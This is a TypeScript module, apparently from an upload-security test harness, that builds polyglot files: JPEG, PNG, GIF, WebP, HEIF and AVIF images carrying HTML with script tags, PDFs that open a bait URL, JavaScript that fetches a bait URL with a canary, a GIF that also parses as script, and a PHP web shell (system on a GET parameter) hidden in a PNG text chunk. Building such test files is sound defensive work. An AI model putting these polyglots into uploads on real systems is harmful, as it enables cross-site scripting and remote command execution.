import { inTurn, pick, text, type HostileFile, type Recipe, type Turn } from './hostile-file.ts'
import { withTrailingBox } from './avif.ts'
import { withGifComment } from './gif.ts'
import { jpegMarks, withSegments } from './jpeg.ts'
import { soundPicture, type Format } from './pictures.ts'
import { pngChunk, pngSignature, withPngChunks } from './png.ts'
import { pictureChunk, webp } from './riff.ts'
import { svgWith } from './disguised.ts'
import { zipWith } from './zip.ts'

const html = ({ canary, bait }: Turn) =>
  `<html><body onload="alert('${canary}')"><script src="${bait}"></script><img src="${bait}"></body></html>`
const pdf = ({ canary, bait }: Turn) =>
  `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${bait})>>/Title(${canary})>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
const script = ({ canary, bait }: Turn) => `*/=1;fetch('${bait}?${canary}')//`
const php = ({ canary }: Turn) => `<?php system($_GET['${canary}']); ?>`

type Kind = (turn: Turn) => Promise<{ what: string; bytes: Buffer }>

const behind =
  (format: Format, what: string, payload: (turn: Turn) => Buffer | string): Kind =>
  async (turn) => ({
    what: `${format} with ${what} behind`,
    bytes: Buffer.concat([await soundPicture(format, turn.index), Buffer.from(payload(turn))]),
  })

const inFront =
  (magic: Buffer, what: string, payload: (turn: Turn) => string): Kind =>
  async (turn) => ({ what, bytes: Buffer.concat([magic, text(payload(turn))]) })

const jpegMagic = text('\xff\xd8\xff\xe0')

const kinds: Kind[] = [
  behind('jpeg', 'a ZIP', ({ canary }) => zipWith('run.js', canary)),
  behind('jpeg', 'a page', html),
  behind('jpeg', 'a PDF', pdf),
  behind('png', 'a script', (turn) => `<script>${script(turn)}</script>`),
  behind('png', 'a ZIP', ({ canary }) => zipWith('META-INF/MANIFEST.MF', canary)),
  behind('webp', 'a page', html),
  behind('gif', 'a script', script),
  inFront(jpegMagic, 'a PDF behind the magic of a JPEG', pdf),
  inFront(pngSignature, 'an SVG behind the magic of a PNG', (turn) => svgWith(turn)),
  inFront(text('GIF89a'), 'an SVG behind the magic of a GIF', (turn) => svgWith(turn)),
  inFront(text('RIFF\x20\0\0\0WEBP'), 'a page behind the magic of a WebP', html),
  inFront(text('\0\0\0\x18ftypmif1\0\0\0\0mif1heic'), 'a page behind the magic of a HEIF', html),
  inFront(text('\0\0\0\x18ftypavif\0\0\0\0mif1avif'), 'an SVG behind the magic of an AVIF', (turn) => svgWith(turn)),
  async (turn) => ({
    what: 'jpeg with a page in its comment',
    bytes: withSegments(await soundPicture('jpeg', turn.index), [
      { mark: jpegMarks.comment, data: text(`--><!-- ${html(turn)}`) },
    ]),
  }),
  async (turn) => ({
    what: 'png with PHP in its text',
    bytes: withPngChunks(await soundPicture('png', turn.index), [pngChunk('tEXt', text(`Comment\0${php(turn)}`))]),
  }),
  async (turn) => ({
    what: 'webp with a page in a chunk of its own',
    bytes: webp([pictureChunk(await soundPicture('webp', turn.index)), { type: 'HTML', data: text(html(turn)) }]),
  }),
  async (turn) => ({
    what: 'avif with a page in a box of its own',
    bytes: withTrailingBox(await soundPicture('avif', turn.index), 'free', html(turn)),
  }),
  async (turn) => {
    // Read as a script, the width opens a comment that the comment of the picture closes.
    const bytes = Buffer.from(withGifComment(await soundPicture('gif', turn.index), script(turn)))
    bytes.write('/*', 6, 'latin1')
    return { what: 'gif that is a script', bytes }
  },
]

const types = ['image/jpeg', 'image/png', 'image/gif', 'image/webp', 'text/html', 'application/octet-stream'] as const

export const polyglot: Recipe = async (turn): Promise<HostileFile> => ({
  ...(await inTurn(kinds, turn.index)(turn)),
  contentType: pick(types, turn.random),
})
